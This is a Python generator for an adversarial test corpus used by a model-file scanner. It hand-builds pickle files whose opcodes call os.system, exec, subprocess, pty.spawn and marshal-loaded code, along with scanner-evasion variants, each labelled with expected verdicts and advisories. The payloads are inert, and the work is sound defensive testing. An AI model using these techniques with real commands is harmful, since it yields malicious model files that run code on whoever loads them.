"""Adversarial corpus for ``bastion scan``: malicious and benign model files, built from code.

Run ``python tests/corpus/generate.py OUT`` to write ``OUT/files/...`` (the corpus) and
``OUT/manifest.json`` (one record per file: its class, the verdict a scanner must reach, the
technique and the advisory or write-up it reproduces). Everything is deterministic: the same
bytes on every run, whatever the hash seed or the clock.

Rules this generator keeps:

* Malicious files are assembled opcode by opcode (or by splicing opcodes into files written by
  the real libraries). Their payloads are harmless (``os.system('true')``, ``print``, a path under
  ``/tmp``), and nothing here ever loads one: the generator only writes bytes.
* Benign files are written by the real libraries (torch, scikit-learn, joblib, NumPy, safetensors,
  ONNX, h5py) and must load in those libraries; ``tests/artifacts/test_corpus.py`` checks that.
* ``expected`` is ``unsafe`` for every malicious file, ``clean`` for every benign one, and ``aux``
  for side files that belong to another sample (ONNX external data, symlinks): a scanner must not
  call those unsafe, and may skip them.

Classes (``cls``) follow the formats and techniques of the scanner's issue: raw pickle protocols,
opcode-level evasion, gadgets, allowed-prefix names, malformed streams, expansion bombs, PyTorch
zip and legacy checkpoints, joblib, NumPy, safetensors, ONNX, Keras, nested archives, polyglots
and wrong extensions. Each malicious entry names the advisory (GHSA/CVE/issue) it reproduces
where there is one; ``novel`` marks variants written for this corpus.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import dataclasses
import enum
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import sys
import tarfile
import tempfile
import types
import warnings
import zipfile
import zlib
from collections import Counter, OrderedDict, defaultdict
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = ["AUX", "CLEAN", "UNSAFE", "Entry", "build_corpus", "register_user_classes"]

UNSAFE = "unsafe"
CLEAN = "clean"
AUX = "aux"

#: The shell command every payload runs: harmless, and never run by this corpus anyway.
CMD = "true"
#: Python source every code-executing payload runs.
PYSRC = "import os; os.system('true')"
#: Fixed zip timestamp (the earliest DOS date) so archives are byte-identical across runs.
_ZIP_DATE = (1980, 1, 1, 0, 0, 0)


@dataclass(frozen=True, slots=True)
class Entry:
    """One file of the corpus.

    Attributes:
        path: path under the corpus ``files`` folder, POSIX separators.
        cls: the class of sample (format or technique family).
        expected: ``unsafe``, ``clean`` or ``aux``.
        technique: what the file does, in one line.
        reference: the advisory, issue or write-up it reproduces; ``novel`` if none.
        loader: for benign files, the real loader the test validates it with.
    """

    path: str
    cls: str
    expected: str
    technique: str
    reference: str = ""
    loader: str = ""


# ----------------------------------------------------------------------------------------------
# Pickle assembler
# ----------------------------------------------------------------------------------------------

MARK = b"("
STOP = b"."
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
REDUCE = b"R"
BUILD = b"b"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
EMPTY_TUPLE = b")"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_LIST = b"]"
APPEND = b"a"
APPENDS = b"e"
EMPTY_DICT = b"}"
SETITEM = b"s"
SETITEMS = b"u"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
OBJ = b"o"
LIST = b"l"
DICT = b"d"


class Raw(bytes):
    """Opcode bytes spliced verbatim where :func:`enc` expects a value."""


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def frame(body: bytes) -> bytes:
    """A protocol-4 FRAME opcode wrapping ``body``."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def binput(i: int) -> bytes:
    return b"q" + bytes([i]) if i < 256 else b"r" + struct.pack("<I", i)


def binget(i: int) -> bytes:
    return b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i)


def long_binget(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def long_binput(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def put(i: int) -> bytes:
    return b"p" + str(i).encode() + b"\n"


def get(i: int) -> bytes:
    return b"g" + str(i).encode() + b"\n"


def s_unicode(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4+) or BINUNICODE for longer strings."""
    data = text.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def binunicode(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def binunicode8(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def text_unicode(text: str) -> bytes:
    """UNICODE (protocol 0): raw-unicode-escape, newline terminated."""
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def text_string(text: str) -> bytes:
    """STRING (protocol 0): a quoted Python 2 str literal."""
    return b"S" + repr(text).encode("ascii") + b"\n"


def short_binstring(text: str) -> bytes:
    data = text.encode("ascii")
    return b"U" + bytes([len(data)]) + data


def binstring(text: str) -> bytes:
    data = text.encode("ascii")
    return b"T" + struct.pack("<i", len(data)) + data


def enc(value: Any) -> bytes:
    """Binary (protocol 2+) opcodes that push ``value``; :class:`Raw` is spliced as is."""
    if isinstance(value, Raw):
        return bytes(value)
    if value is None:
        return NONE
    if value is True:
        return NEWTRUE
    if value is False:
        return NEWFALSE
    if isinstance(value, int):
        if 0 <= value < 256:
            return b"K" + bytes([value])
        if 0 <= value < 65536:
            return b"M" + struct.pack("<H", value)
        if -(2**31) <= value < 2**31:
            return b"J" + struct.pack("<i", value)
        data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(data)]) + data
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return s_unicode(value)
    if isinstance(value, bytes):
        if len(value) < 256:
            return b"C" + bytes([len(value)]) + value
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        if not value:
            return EMPTY_TUPLE
        body = b"".join(enc(v) for v in value)
        if len(value) <= 3:
            return body + (TUPLE1, TUPLE2, TUPLE3)[len(value) - 1]
        return MARK + body + TUPLE
    if isinstance(value, list):
        if not value:
            return EMPTY_LIST
        return EMPTY_LIST + MARK + b"".join(enc(v) for v in value) + APPENDS
    if isinstance(value, dict):
        if not value:
            return EMPTY_DICT
        items = b"".join(enc(k) + enc(v) for k, v in value.items())
        return EMPTY_DICT + MARK + items + SETITEMS
    raise TypeError(f"cannot encode {type(value).__name__}")


def g(module: str, name: str) -> Raw:
    """GLOBAL opcode (text operands)."""
    return Raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def sg(module: str, name: str) -> Raw:
    """STACK_GLOBAL with constant operands."""
    return Raw(s_unicode(module) + s_unicode(name) + STACK_GLOBAL)


def call(fn: bytes, *args: Any) -> Raw:
    """``fn(*args)`` via REDUCE."""
    return Raw(bytes(fn) + enc(tuple(args)) + REDUCE)


def pk(body: bytes, protocol: int = 4) -> bytes:
    """A complete pickle: PROTO, ``body``, STOP."""
    return proto(protocol) + bytes(body) + STOP


def system_call(style: str = "stack") -> Raw:
    """``os.system('true')`` (the reference payload)."""
    fn = sg("os", "system") if style == "stack" else g("os", "system")
    return call(fn, CMD)


def unframe(data: bytes) -> bytes:
    """Drop FRAME opcodes (frames are optional) so opcodes can be spliced anywhere."""
    import pickletools

    if data[:1] != b"\x80" or data[1] < 4:
        return data  # protocols 0-3 have no frames
    out = bytearray()
    last = 0
    for op, _arg, pos in pickletools.genops(data):
        if op.name == "FRAME":
            assert pos is not None
            out += data[last:pos]
            last = pos + 9
        if op.name == "STOP":
            break
    out += data[last:]
    return bytes(out)


def inject_before_stop(data: bytes, payload: bytes) -> bytes:
    """Fickling ``--inject`` style: run ``payload`` then discard its result, just before STOP."""
    data = unframe(data)
    assert data.endswith(STOP)
    return data[:-1] + bytes(payload) + POP + STOP


def inject_after_proto(data: bytes, payload: bytes) -> bytes:
    """Run ``payload`` first (result discarded), then the original pickle."""
    data = unframe(data)
    if data[:1] == b"\x80":
        return data[:2] + bytes(payload) + POP + data[2:]
    return bytes(payload) + POP + data


def replace_marker(data: bytes, marker: str, payload: bytes) -> bytes:
    """Replace the opcode that pushes the string ``marker`` by ``payload`` (protocol 2 data)."""
    data = unframe(data)
    raw = marker.encode()
    for op in (
        b"X" + struct.pack("<I", len(raw)) + raw,
        b"\x8c" + bytes([len(raw)]) + raw,
    ):
        if op in data:
            assert data.count(op) == 1, marker
            return data.replace(op, bytes(payload))
    raise AssertionError(f"marker {marker!r} not found")


# ----------------------------------------------------------------------------------------------
# Container writers (all deterministic)
# ----------------------------------------------------------------------------------------------


def zip_bytes(
    members: Sequence[tuple[str, bytes]],
    *,
    compression: int = zipfile.ZIP_STORED,
    comment: bytes = b"",
    force_zip64: bool = False,
) -> bytes:
    """A zip written by :mod:`zipfile` with fixed timestamps and permissions."""
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are intended in some samples
        with zipfile.ZipFile(buf, "w", compression=compression) as zf:
            for name, data in members:
                info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
                info.compress_type = compression
                info.external_attr = 0o644 << 16
                with zf.open(info, "w", force_zip64=force_zip64) as fh:
                    fh.write(data)
            if comment:
                zf.comment = comment
    return buf.getvalue()


@dataclass
class RawMember:
    """One member for :func:`raw_zip`: the stored bytes and the header fields to write."""

    name: bytes
    stored: bytes
    method: int = 0
    crc: int | None = None
    usize: int | None = None
    flags: int = 0
    local_name: bytes | None = None
    offset_of: int | None = None  # point the central entry at another member's local header


def deflate_raw(data: bytes, level: int = 9) -> bytes:
    comp = zlib.compressobj(level, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush()


def raw_zip(members: Sequence[RawMember], *, prefix: bytes = b"") -> bytes:
    """A hand-written zip, so headers can lie (CRC, flags, names, offsets, sizes).

    Uses zip64 records when the member count or an offset needs them.
    """
    out = bytearray(prefix)
    offsets: list[int] = []
    for m in members:
        crc = zlib.crc32(m.stored) if m.crc is None and m.method == 0 else m.crc
        usize = len(m.stored) if m.usize is None else m.usize
        name = m.name if m.local_name is None else m.local_name
        offsets.append(len(out))
        if m.offset_of is not None:
            continue
        big = usize >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, usize, len(m.stored)) if big else b""
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            45 if big else 20,
            m.flags,
            m.method,
            0,
            0x21,
            crc or 0,
            0xFFFFFFFF if big else len(m.stored),
            0xFFFFFFFF if big else usize,
            len(name),
            len(extra),
        )
        out += name + extra + m.stored
    cd_start = len(out)
    for m, off in zip(members, offsets, strict=True):
        if m.offset_of is not None:
            off = offsets[m.offset_of]
        crc = zlib.crc32(m.stored) if m.crc is None and m.method == 0 else m.crc
        usize = len(m.stored) if m.usize is None else m.usize
        big = usize >= 0xFFFFFFFF or off >= 0xFFFFFFFF
        extra = struct.pack("<HHQQQ", 1, 24, usize, len(m.stored), off) if big else b""
        out += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            45 if big else 20,
            45 if big else 20,
            m.flags,
            m.method,
            0,
            0x21,
            crc or 0,
            0xFFFFFFFF if big else len(m.stored),
            0xFFFFFFFF if big else usize,
            len(m.name),
            len(extra),
            0,
            0,
            0,
            0o644 << 16,
            0xFFFFFFFF if big else off,
        )
        out += m.name + extra
    cd_size = len(out) - cd_start
    count = len(members)
    if count > 0xFFFF:
        eocd64 = len(out)
        out += struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, cd_size, cd_start
        )
        out += struct.pack("<IIQI", 0x07064B50, 0, eocd64, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, cd_size, cd_start, 0)
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_start, 0)
    return bytes(out)


def _7z_number(value: int) -> bytes:
    """7-Zip's variable-length NUMBER encoding."""
    for extra in range(8):
        if value < (1 << (7 * (extra + 1))):
            first = (0xFF << (8 - extra)) & 0xFF
            high = value >> (8 * extra)
            return bytes([first | high]) + (value & ((1 << (8 * extra)) - 1)).to_bytes(
                extra, "little"
            )
    return b"\xff" + value.to_bytes(8, "little")


def sevenzip_bytes(name: str, data: bytes) -> bytes:
    """A one-file 7z archive, LZMA2-compressed, written by hand (no 7z library needed)."""
    packed = lzma.compress(
        data, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]
    )
    n = _7z_number
    folder = n(1) + bytes([0x21, 0x21]) + n(1) + bytes([16])  # one coder: LZMA2, 1 MiB dict
    names = name.encode("utf-16-le") + b"\x00\x00"
    header = (
        b"\x01\x04"  # Header, MainStreamsInfo
        + b"\x06"
        + n(0)
        + n(1)
        + b"\x09"
        + n(len(packed))
        + b"\x00"  # PackInfo
        + b"\x07\x0b"
        + n(1)
        + b"\x00"
        + folder
        + b"\x0c"
        + n(len(data))
        + b"\x00"  # UnPackInfo
        + b"\x08\x0a\x01"
        + struct.pack("<I", zlib.crc32(data))
        + b"\x00"  # SubStreamsInfo CRC
        + b"\x00"  # end of MainStreamsInfo
        + b"\x05"
        + n(1)
        + b"\x11"
        + n(len(names) + 1)
        + b"\x00"
        + names
        + b"\x00"  # FilesInfo
        + b"\x00"  # end of Header
    )
    tail = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(tail)) + tail
    return start + packed + header


def tar_bytes(members: Sequence[tuple[str, bytes]], *, compression: str = "") -> bytes:
    """A tar (optionally gz/bz2/xz) with fixed metadata."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            tf.addfile(info, io.BytesIO(data))
    raw = buf.getvalue()
    return compress(raw, compression) if compression else raw


def gzip_bytes(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def compress(data: bytes, codec: str) -> bytes:
    if codec in ("gz", "gzip"):
        return gzip_bytes(data)
    if codec == "bz2":
        return bz2.compress(data)
    if codec == "xz":
        return lzma.compress(data, format=lzma.FORMAT_XZ)
    if codec == "lzma":
        return lzma.compress(data, format=lzma.FORMAT_ALONE)
    if codec == "zlib":
        return zlib.compress(data)
    raise ValueError(codec)


def npy_bytes(
    header: dict[str, Any] | str, body: bytes, version: tuple[int, int] = (1, 0)
) -> bytes:
    """A ``.npy`` file with the given header dict (or literal header text) and raw body."""
    text = header if isinstance(header, str) else repr(header)
    hlen_size = 2 if version == (1, 0) else 4
    preamble = 6 + 2 + hlen_size
    raw = text.encode("latin1" if version != (3, 0) else "utf-8")
    pad = (64 - (preamble + len(raw) + 1) % 64) % 64
    raw = raw + b" " * pad + b"\n"
    fmt = "<H" if hlen_size == 2 else "<I"
    return b"\x93NUMPY" + bytes(version) + struct.pack(fmt, len(raw)) + raw + body


def safetensors_bytes(
    header: dict[str, Any] | bytes, body: bytes, *, size: int | None = None
) -> bytes:
    """A safetensors file from a header dict (or raw header bytes) and a data section."""
    raw = (
        header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    )
    if not isinstance(header, bytes):
        raw += b" " * ((8 - len(raw) % 8) % 8)
    n = len(raw) if size is None else size
    return struct.pack("<Q", n) + raw + body


# ----------------------------------------------------------------------------------------------
# The corpus
# ----------------------------------------------------------------------------------------------


class Corpus:
    """Collects files under ``root/files`` and their manifest entries."""

    def __init__(self, root: Path) -> None:
        self.files = root / "files"
        self.files.mkdir(parents=True, exist_ok=True)
        self.entries: list[Entry] = []
        self._seen: set[str] = set()

    def path(self, rel: str) -> Path:
        p = self.files / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        return p

    def record(
        self,
        rel: str,
        cls: str,
        expected: str,
        technique: str,
        reference: str = "",
        loader: str = "",
    ) -> None:
        if rel in self._seen:
            raise AssertionError(f"duplicate corpus path {rel}")
        self._seen.add(rel)
        self.entries.append(Entry(rel, cls, expected, technique, reference, loader))

    def bad(
        self, rel: str, data: bytes, cls: str, technique: str, reference: str = "novel"
    ) -> None:
        self.path(rel).write_bytes(data)
        self.record(rel, cls, UNSAFE, technique, reference)

    def good(self, rel: str, data: bytes, cls: str, technique: str, loader: str) -> None:
        self.path(rel).write_bytes(data)
        self.record(rel, cls, CLEAN, technique, "", loader)

    def aux(self, rel: str, data: bytes | None, cls: str, technique: str) -> None:
        if data is not None:
            self.path(rel).write_bytes(data)
        self.record(rel, cls, AUX, technique)


# ---- raw pickle: every protocol ----------------------------------------------------------------


def _pickle_protocols(c: Corpus) -> None:
    cls = "pickle-protocol"
    # Protocol 0: text opcodes only, as pickle.dumps(protocol=0) writes a __reduce__ result.
    c.bad(
        "pickle/proto0_os_system.pkl",
        b"cos\nsystem\n(V" + CMD.encode() + b"\ntR.",
        cls,
        "protocol 0: GLOBAL os.system, MARK/TUPLE, REDUCE",
        "fickling test_bypasses; PoC classic",
    )
    c.bad(
        "pickle/proto0_posix_system_string.pkl",
        b"cposix\nsystem\n(S'" + CMD.encode() + b"'\ntR.",
        cls,
        "protocol 0: posix.system (os.system's real __module__) with a STRING argument",
    )
    c.bad(
        "pickle/proto1_builtins_exec.pkl",
        b"c__builtin__\nexec\nq\x00(X"
        + struct.pack("<I", len(PYSRC))
        + PYSRC.encode()
        + b"tq\x01Rq\x02.",
        cls,
        "protocol 1: __builtin__.exec (Python 2 name, mapped by fix_imports) with BINUNICODE",
    )
    c.bad(
        "pickle/proto2_subprocess_call.pkl",
        pk(call(g("subprocess", "call"), [CMD]), 2),
        cls,
        "protocol 2: subprocess.call(['true'])",
    )
    c.bad(
        "pickle/proto3_nt_system.pkl",
        pk(call(g("nt", "system"), CMD), 3),
        cls,
        "protocol 3: nt.system (os on Windows)",
    )
    c.bad(
        "pickle/proto4_stack_global_system.pkl",
        pk(system_call("stack"), 4),
        cls,
        "protocol 4: STACK_GLOBAL os.system, SHORT_BINUNICODE operands",
    )
    c.bad(
        "pickle/proto4_framed_eval.pkl",
        proto(4) + frame(bytes(call(sg("builtins", "eval"), "print('bastion-corpus')")) + STOP),
        cls,
        "protocol 4: FRAME around builtins.eval",
    )
    c.bad(
        "pickle/proto5_framed_exec.pkl",
        proto(5) + frame(bytes(call(sg("builtins", "exec"), PYSRC)) + STOP),
        cls,
        "protocol 5: FRAME around builtins.exec",
    )
    c.bad(
        "pickle/proto5_no_proto_opcode.pkl",
        bytes(system_call("stack")) + STOP,
        cls,
        "binary opcodes with no PROTO opcode at all (no magic bytes)",
    )
    c.bad(
        "pickle/proto2_after_benign_dict.pkl",
        pk(enc({"weights": [1, 2, 3]}) + POP + system_call("global"), 2),
        cls,
        "protocol 2: benign dict first, then os.system as the result",
    )


# ---- opcode-level evasion ---------------------------------------------------------------------


def _pickle_opcodes(c: Corpus) -> None:
    cls = "pickle-opcode"
    sysc = sg("os", "system")
    c.bad(
        "opcode/inst.pkl",
        b"(V" + CMD.encode() + b"\nios\nsystem\n.",
        cls,
        "INST opcode (module/name inline, arguments from MARK)",
        "fickling PR #108 (pty INST)",
    )
    c.bad(
        "opcode/inst_pty.pkl",
        b"(S'true'\nipty\nspawn\n.",
        cls,
        "INST pty.spawn",
        "fickling PR #108",
    )
    c.bad(
        "opcode/obj.pkl",
        pk(MARK + bytes(sysc) + enc(CMD) + OBJ, 2),
        cls,
        "OBJ opcode: MARK callable args OBJ",
        "fickling PR #108",
    )
    c.bad(
        "opcode/obj_pty_global.pkl",
        MARK + b"cpty\nspawn\n" + text_string(CMD) + OBJ + STOP,
        cls,
        "OBJ with GLOBAL pty.spawn, protocol 0",
        "fickling PR #108",
    )
    c.bad(
        "opcode/stack_global_memo_binput.pkl",
        pk(
            enc("os")
            + binput(1)
            + enc("system")
            + binput(2)
            + POP
            + POP
            + binget(1)
            + binget(2)
            + STACK_GLOBAL
            + enc((CMD,))
            + REDUCE
        ),
        cls,
        "STACK_GLOBAL operands fetched from the memo (BINPUT/BINGET)",
        "picklescan#22 (imaginaryctf Safe Pickle)",
    )
    c.bad(
        "opcode/stack_global_memo_memoize_long.pkl",
        pk(
            enc("subprocess")
            + MEMOIZE
            + enc("getoutput")
            + MEMOIZE
            + POP
            + POP
            + long_binget(0)
            + long_binget(1)
            + STACK_GLOBAL
            + enc((CMD,))
            + REDUCE
        ),
        cls,
        "STACK_GLOBAL operands from MEMOIZE + LONG_BINGET",
    )
    c.bad(
        "opcode/stack_global_memo_overwritten.pkl",
        pk(
            enc("numpy")
            + binput(3)
            + POP
            + enc("dtype")
            + binput(4)
            + POP
            + enc("os")
            + binput(3)
            + POP
            + enc("system")
            + binput(4)
            + POP
            + binget(3)
            + binget(4)
            + STACK_GLOBAL
            + enc((CMD,))
            + REDUCE
        ),
        cls,
        "memo slots first hold 'numpy'/'dtype', then are overwritten with 'os'/'system'",
    )
    c.bad(
        "opcode/stack_global_memo_put_after_pop.pkl",
        pk(
            enc("os")
            + enc("decoy")
            + POP
            + binput(0)
            + enc("system")
            + DUP
            + POP
            + binput(1)
            + POP
            + POP
            + binget(0)
            + binget(1)
            + STACK_GLOBAL
            + enc((CMD,))
            + REDUCE
        ),
        cls,
        "BINPUT right after POP/DUP: the memoised value is not the previous opcode's argument",
        "picklescan#22; modelscan#85",
    )
    c.bad(
        "opcode/stack_global_pop_mark_decoy.pkl",
        pk(
            enc("os")
            + MARK
            + enc("numpy")
            + enc("dtype")
            + POP_MARK
            + enc("system")
            + STACK_GLOBAL
            + enc((CMD,))
            + REDUCE
        ),
        cls,
        "decoy strings between the STACK_GLOBAL operands, dropped by POP_MARK",
    )
    c.bad(
        "opcode/stack_global_text_put_get.pkl",
        proto(4)
        + text_unicode("posix")
        + put(7)
        + POP
        + text_unicode("system")
        + put(8)
        + POP
        + get(7)
        + get(8)
        + STACK_GLOBAL
        + MARK
        + text_unicode(CMD)
        + TUPLE
        + REDUCE
        + STOP,
        cls,
        "STACK_GLOBAL with UNICODE operands via text PUT/GET",
    )
    c.bad(
        "opcode/stack_global_legacy_strings.pkl",
        pk(short_binstring("os") + binstring("system") + STACK_GLOBAL + enc((CMD,)) + REDUCE),
        cls,
        "STACK_GLOBAL operands pushed by SHORT_BINSTRING/BINSTRING (decoded as ASCII str)",
        "modelscan PR #313",
    )
    c.bad(
        "opcode/stack_global_binunicode8.pkl",
        pk(binunicode8("os") + binunicode8("system") + STACK_GLOBAL + enc((CMD,)) + REDUCE),
        cls,
        "STACK_GLOBAL operands pushed by BINUNICODE8",
    )
    rot = sg("_codecs", "decode")
    c.bad(
        "opcode/stack_global_computed_rot13.pkl",
        pk(
            call(rot, "bf", "rot13")
            + call(rot, "flfgrz", "rot13")
            + STACK_GLOBAL
            + enc((CMD,))
            + REDUCE
        ),
        cls,
        "STACK_GLOBAL operands computed at load time (codecs rot13 of 'bf'/'flfgrz')",
    )
    c.bad(
        "opcode/stack_global_computed_join.pkl",
        pk(
            call(sg("builtins", "str.join"), "", ["o", "s"])
            + call(sg("builtins", "str.join"), "", ["sys", "tem"])
            + STACK_GLOBAL
            + enc((CMD,))
            + REDUCE
        ),
        cls,
        "STACK_GLOBAL operands built by str.join at load time",
        "modelscan#331",
    )
    c.bad(
        "opcode/newobj_partial.pkl",
        pk(sg("functools", "partial") + enc((Raw(sysc), CMD)) + NEWOBJ + EMPTY_TUPLE + REDUCE),
        cls,
        "NEWOBJ functools.partial(os.system, 'true') then REDUCE calls it",
    )
    c.bad(
        "opcode/newobj_ex_partial.pkl",
        pk(
            sg("functools", "partial")
            + enc((Raw(sg("subprocess", "check_output")), [CMD]))
            + enc({})
            + NEWOBJ_EX
            + EMPTY_TUPLE
            + REDUCE,
            4,
        ),
        cls,
        "NEWOBJ_EX functools.partial(subprocess.check_output, ['true']) then REDUCE",
    )
    code = compile(PYSRC, "<corpus>", "exec")
    c.bad(
        "opcode/newobj_functiontype_marshal.pkl",
        pk(
            sg("types", "FunctionType")
            + enc((call(sg("marshal", "loads"), marshal.dumps(code)), {}))
            + NEWOBJ
            + EMPTY_TUPLE
            + REDUCE
        ),
        cls,
        "NEWOBJ types.FunctionType(marshal.loads(code), {}) then call it",
        "fickling GHSA-565g-hwwr-4pp3",
    )
    c.bad(
        "opcode/build_planted_setstate.pkl",
        pk(
            call(sg("argparse", "Namespace"))
            + enc({"__setstate__": Raw(sysc)})
            + BUILD
            + enc(CMD)
            + BUILD
        ),
        cls,
        "BUILD plants __setstate__=os.system in an instance dict; a second BUILD calls it",
    )
    c.bad(
        "opcode/build_setstate_ordereddict.pkl",
        pk(
            call(sg("collections", "OrderedDict"))
            + enc(
                {
                    "__setstate__": Raw(
                        call(
                            sg("builtins", "getattr"),
                            Raw(call(sg("builtins", "__import__"), "os")),
                            "system",
                        )
                    )
                }
            )
            + BUILD
            + enc(CMD)
            + BUILD
        ),
        cls,
        "allow-listed OrderedDict gets a planted __setstate__ (getattr(__import__('os'),'system'))",
    )
    c.bad(
        "opcode/build_slotstate_setattr_numpy.pkl",
        proto(5)
        + g("numpy", "prod")
        + NONE
        + MARK
        + text_unicode("a")
        + text_unicode("os")
        + DICT
        + TUPLE2
        + BUILD
        + NONE
        + MARK
        + text_unicode("b")
        + text_unicode("system")
        + DICT
        + TUPLE2
        + BUILD
        + POP
        + g("numpy", "prod.a")
        + put(0)
        + g("numpy", "prod.b")
        + put(1)
        + POP
        + POP
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + text_unicode(CMD)
        + TUPLE1
        + REDUCE
        + STOP,
        cls,
        "BUILD slot-state setattr on numpy.prod, dotted GLOBAL reads back 'os'/'system'",
        "modelscan#85",
    )
    add_ext = sg("copyreg", "add_extension")
    for opname, code_op, num in (
        ("ext1", b"\x82", 0xF1),
        ("ext2", b"\x83", 0xBEEF),
        ("ext4", b"\x84", 0x7A51C0DE),
    ):
        width = {"ext1": "<B", "ext2": "<H", "ext4": "<i"}[opname]
        c.bad(
            f"opcode/{opname}_registry.pkl",
            pk(
                call(add_ext, "os", "system", num)
                + POP
                + code_op
                + struct.pack(width, num)
                + enc((CMD,))
                + REDUCE
            ),
            cls,
            f"{opname.upper()}: copyreg.add_extension registers os.system, the EXT opcode "
            "fetches it from the extension registry",
        )
    c.bad(
        "opcode/copyreg_reconstructor_popen.pkl",
        pk(
            call(
                sg("copyreg", "_reconstructor"),
                Raw(sg("subprocess", "Popen")),
                Raw(sg("subprocess", "Popen")),
                [CMD],
            )
        ),
        cls,
        "copyreg._reconstructor(Popen, Popen, ['true']) runs Popen.__init__ (spawns a process)",
    )
    c.bad(
        "opcode/reduce_callee_from_memo.pkl",
        pk(sysc + binput(9) + POP + enc({"a": 1}) + POP + binget(9) + enc((CMD,)) + REDUCE),
        cls,
        "callee memoised, popped, and fetched again for REDUCE",
    )
    c.bad(
        "opcode/dangerous_global_not_called.pkl",
        pk(enc({"hook": Raw(sysc), "weights": [0.5, 0.25]})),
        cls,
        "os.system stored as a value (not called): loading still imports it and hands it over",
    )
    c.bad(
        "opcode/compat_commands_getoutput.pkl",
        pk(call(g("commands", "getoutput"), CMD), 2),
        cls,
        "Python 2 module name 'commands' mapped to subprocess by fix_imports (protocol < 3)",
        "picklescan _unsafe_globals 'commands'",
    )
    c.bad(
        "opcode/compat_cpickle_loads.pkl",
        pk(call(g("cPickle", "loads"), pk(system_call("global"), 2)), 2),
        cls,
        "Python 2 name cPickle.loads (mapped to pickle) loading a nested payload",
        "picklescan#24",
    )
    c.bad(
        "opcode/list_map_os_system.pkl",
        pk(call(sg("builtins", "list"), Raw(call(sg("builtins", "map"), Raw(sysc), [CMD])))),
        cls,
        "REDUCE callee is builtins.list; os.system only appears as map()'s argument",
    )
    c.bad(
        "opcode/atexit_register.pkl",
        pk(call(sg("atexit", "register"), Raw(sysc), CMD)),
        cls,
        "atexit.register(os.system, 'true'): runs at interpreter exit",
    )
    c.bad(
        "opcode/operator_call.pkl",
        pk(call(sg("_operator", "call"), Raw(sg("posix", "system")), CMD)),
        cls,
        "_operator.call(posix.system, 'true') (Python 3.11+)",
    )


# ---- gadgets: stdlib, NumPy and torch callables that run code ---------------------------------


def _gadget(module: str, name: str, *args: Any) -> bytes:
    return pk(call(sg(module, name), *args))


def _partial_kw(fn: bytes, args: tuple[Any, ...], kwargs: dict[str, Any]) -> bytes:
    """``functools.partial(fn, *args, **kwargs)()`` built with NEWOBJ_EX, to pass keywords."""
    return pk(
        sg("functools", "partial")
        + enc((Raw(fn), *args))
        + enc(kwargs)
        + NEWOBJ_EX
        + EMPTY_TUPLE
        + REDUCE
    )


def _method(
    module: str, cls_name: str, method: str, ctor_args: tuple[Any, ...], *args: Any
) -> bytes:
    """``module.Class.method(module.Class(*ctor_args), *args)`` (dotted STACK_GLOBAL)."""
    inst = call(sg(module, cls_name), *ctor_args)
    return pk(call(sg(module, f"{cls_name}.{method}"), inst, *args))


def _pickle_gadgets(c: Corpus) -> None:
    cls = "pickle-gadget"
    nested = pk(system_call("stack"))
    torch_nested = _torch_zip(nested)
    imp = call(sg("importlib", "import_module"), "os")
    gadgets: list[tuple[str, bytes, str, str]] = [
        (
            "numpy_runstring",
            _gadget("numpy.testing._private.utils", "runstring", PYSRC, {}),
            "numpy.testing._private.utils.runstring (exec)",
            "picklescan _unsafe_globals numpy.testing",
        ),
        (
            "torch_collect_env_run",
            _gadget("torch.utils.collect_env", "run", CMD),
            "torch.utils.collect_env.run (subprocess shell)",
            "modelscan#338",
        ),
        (
            "timeit_timeit",
            _gadget("timeit", "timeit", PYSRC),
